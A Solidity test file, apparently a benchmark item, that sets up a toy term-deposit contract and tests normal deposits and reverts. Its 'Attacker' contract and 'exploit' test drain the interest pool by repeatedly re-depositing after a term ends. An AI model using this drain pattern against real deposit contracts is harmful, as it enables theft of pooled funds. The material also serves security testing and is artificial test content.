// SPDX-License-Identifier: MIT
pragma solidity 0.8.30;

// assay-canary-c2c10f79-9468-440d-99b5-707b786c6e12

import {ERC20} from "@openzeppelin/contracts@5.4.0/token/ERC20/ERC20.sol";
import "./TermLarder.sol";

interface Vm {
    function warp(uint256 time) external;
    function prank(address sender) external;
    function startPrank(address sender) external;
    function stopPrank() external;
    function expectRevert(bytes calldata reason) external;
}

contract Nut is ERC20 {
    constructor() ERC20("Walnut", "NUT") {
        _mint(msg.sender, 1_000_000e18);
    }
}

// one nut first, and all the others when its term is over
contract Attacker {
    function begin(TermLarder larder, uint256 term) external {
        larder.nut().approve(address(larder), type(uint256).max);
        larder.put(1e18, term);
    }

    function again(TermLarder larder, uint256 term) external {
        uint256 amount = larder.nut().balanceOf(address(this));
        larder.take(larder.put(amount, term) + amount);
    }
}

contract Proof {
    Vm private constant vm = Vm(0x7109709ECfa91a80626fF3989D68f67F5b1DD12D);
    address private constant ODA = address(0x0DA);
    address private constant RIK = address(0x21C);
    address private constant CELLARER = address(0xCE11A2);
    uint256 private constant START = 1_760_800_000;
    uint256 private constant YEAR = 360 days;

    Nut public nut;
    TermLarder public larder;
    Attacker public guest;

    function setUp() public {
        vm.warp(START);
        nut = new Nut();
        larder = new TermLarder(nut, CELLARER, START + 60 days);
        nut.approve(address(larder), type(uint256).max);
        larder.fillSack(5_000e18);
        vm.startPrank(CELLARER);
        larder.setTerm(30 days, 10);
        larder.setTerm(90 days, 4);
        larder.setTerm(YEAR, 20);
        vm.stopPrank();
        _give(ODA);
        _give(RIK);
        vm.prank(ODA);
        larder.put(5_000e18, YEAR);
        guest = new Attacker();
        nut.transfer(address(guest), 2_000e18);
    }

    function _give(address who) private {
        nut.transfer(who, 10_000e18);
        vm.prank(who);
        nut.approve(address(larder), type(uint256).max);
    }

    function test_Regular() public {
        require(larder.sack() == 4_000e18 && larder.kept() == 6_000e18, "Oda's thanks");
        vm.startPrank(RIK);
        require(larder.put(1_000e18, 0) == 0, "no term");
        require(larder.put(500e18, 0) == 0, "no term yet");
        larder.take(1_500e18);
        require(nut.balanceOf(RIK) == 10_000e18, "all back");
        require(larder.put(1_000e18, 90 days) == 40e18, "four percent");
        require(larder.put(1_000e18, 90 days) == 40e18, "and again");
        (uint256 nuts, uint256 term, uint256 until) = larder.shelves(RIK);
        require(nuts == 2_080e18 && term == 90 days && until == START + 90 days, "for a term");
        vm.warp(until);
        larder.take(2_080e18);
        require(larder.put(1e18, 0) == 0, "late, without a term");
        larder.take(1e18);
        vm.stopPrank();
        require(nut.balanceOf(RIK) == 10_080e18, "with thanks");
        vm.warp(START + YEAR);
        vm.prank(ODA);
        larder.take(6_000e18);
        require(nut.balanceOf(ODA) == 11_000e18 && larder.kept() == 0, "Oda's nuts");
        vm.prank(CELLARER);
        larder.emptySack(1_920e18);
        require(nut.balanceOf(CELLARER) == 1_920e18 && larder.sack() == 2_000e18, "the rest");
    }

    function test_RefusesStrangers() public {
        vm.startPrank(RIK);
        vm.expectRevert(abi.encodeWithSignature("Error(string)", "cellarer only"));
        larder.setTerm(1 days, 50);
        vm.expectRevert(abi.encodeWithSignature("Error(string)", "cellarer only"));
        larder.emptySack(1);
        vm.stopPrank();
    }

    function test_RefusesTerms() public {
        vm.startPrank(CELLARER);
        vm.expectRevert(abi.encodeWithSignature("Error(string)", "how long?"));
        larder.setTerm(0, 1);
        vm.expectRevert(abi.encodeWithSignature("Error(string)", "how long?"));
        larder.setTerm(1000 days + 1, 1);
        vm.expectRevert(abi.encodeWithSignature("Error(string)", "too generous"));
        larder.setTerm(1 days, 51);
        vm.stopPrank();
    }

    function test_RefusesNuts() public {
        vm.startPrank(RIK);
        vm.expectRevert(abi.encodeWithSignature("Error(string)", "no nuts"));
        larder.put(0, 0);
        vm.expectRevert(abi.encodeWithSelector(TermLarder.NoSuchTerm.selector, 91 days));
        larder.put(1, 91 days);
        larder.put(6_000e18, YEAR);
        vm.stopPrank();
        nut.transfer(RIK, 20_000e18);
        vm.startPrank(RIK);
        vm.expectRevert(abi.encodeWithSelector(TermLarder.SackTooSmall.selector, 2_800e18));
        larder.put(14_001e18, YEAR);
        vm.warp(START + 60 days + 1);
        vm.expectRevert(abi.encodeWithSelector(TermLarder.TooLate.selector, START + 60 days));
        larder.put(1e18, YEAR);
        vm.stopPrank();
    }

    function test_RefusesOtherTerms() public {
        vm.startPrank(ODA);
        vm.expectRevert(abi.encodeWithSelector(TermLarder.OtherTerm.selector, YEAR));
        larder.put(1, 90 days);
        vm.expectRevert(abi.encodeWithSelector(TermLarder.OtherTerm.selector, YEAR));
        larder.put(1, 0);
        vm.warp(START + YEAR - 1);
        vm.expectRevert(abi.encodeWithSelector(TermLarder.TooEarly.selector, START + YEAR));
        larder.take(1);
        vm.stopPrank();
    }

    function exploit() public {
        guest.begin(larder, 30 days);
        vm.warp(block.timestamp + 30 days);
        for (uint256 i = 0; i < 10; i++) guest.again(larder, 30 days);
    }

    function test_Exploit() public {
        exploit();
        require(nut.balanceOf(address(guest)) >= 5_000e18, "no gain");
    }

    function target() public view returns (address) {
        return address(larder);
    }

    function attacker() public view returns (address) {
        return address(guest);
    }
}
